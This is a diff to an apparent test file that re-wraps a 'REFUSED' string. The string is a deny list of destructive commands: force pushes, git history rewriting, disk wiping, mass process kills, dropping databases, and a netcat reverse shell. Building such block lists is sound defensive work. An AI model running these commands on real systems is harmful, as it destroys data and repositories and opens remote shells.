@@ -97,11 +97,11 @@ def test_the_page_has_the_numbers(read: dict[str, str], unread: dict[str, str]) 
 
 REFUSED = """
 git reset --hard; git clean -f; git clean --force; git checkout -- a; git checkout .; git checkout -f
-git checkout --force a; git restore --worktree a; git restore -S -W a; git rm -rf a; git switch -f a; git switch --force a
-git switch --discard-changes a; git stash clear; git stash drop; git branch -D a; git branch -d -f a
-git branch --delete --force a; git worktree remove --force a; git push -f; git push --force; git push --mirror
-git push --all; git push --prune; git push o +a; git filter-branch; git filter-repo; git reflog expire
-git reflog delete; git update-ref -d a; git push o main; git push o master; git push o trunk
+git checkout --force a; git restore --worktree a; git restore -S -W a; git rm -rf a; git switch -f a
+git switch --force a; git switch --discard-changes a; git stash clear; git stash drop; git branch -D a
+git branch -d -f a; git branch --delete --force a; git worktree remove --force a; git push -f; git push --force
+git push --mirror; git push --all; git push --prune; git push o +a; git filter-branch; git filter-repo
+git reflog expire; git reflog delete; git update-ref -d a; git push o main; git push o master; git push o trunk
 git push o production; git push o release/1
 mkfs.ext4 x; wipefs x; shred x; lvremove x; vgremove x; pvremove x; chmod 777 x; crontab -r; nc -e sh a 1; shutdown
 reboot; halt; poweroff; kill -9 -1; kill -KILL -1; kill -- -1; dropdb x; redis-cli flushall; php artisan migrate:fresh
